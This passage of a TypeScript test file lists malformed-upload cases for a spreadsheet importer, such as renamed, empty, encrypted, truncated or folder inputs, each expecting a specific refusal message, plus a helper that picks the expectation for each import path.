    name: 'not an .xlsx (text renamed)',
    group: 'files',
    paths: ['xlsx'],
    file: 'text',
    expect: { refusal: localMsg.notXlsx },
  },
  { name: 'empty file', group: 'files', paths: ['xlsx'], file: 'empty', expect: { refusal: localMsg.emptyFile } },
  {
    name: 'password-protected .xlsx (OLE container)',
    group: 'files',
    paths: ['xlsx'],
    file: 'ole',
    expect: { refusal: localMsg.encryptedFile },
  },
  {
    name: 'a .docx renamed .xlsx',
    group: 'files',
    paths: ['xlsx'],
    file: 'docx',
    expect: { refusal: localMsg.notXlsx },
  },
  {
    name: 'truncated .xlsx',
    group: 'files',
    paths: ['xlsx'],
    file: 'truncated',
    expect: { refusal: localMsg.notXlsx },
  },
  {
    name: 'workbook without an area tab',
    group: 'files',
    paths: ['xlsx'],
    file: 'noAreaTab',
    expect: { refusal: localMsg.noAreaTab },
  },
  {
    name: 'a folder named .xlsx',
    group: 'files',
    paths: ['xlsx'],
    file: 'folder',
    expect: { refusal: localMsg.notAFile },
  },
];

/** The expectation of a case on one path. */
export function expectationOn(c: BadCase, path: PathName): Expectation {
  return (path === 'sheets' ? c.sheets : c.xlsx) ?? c.expect;
}
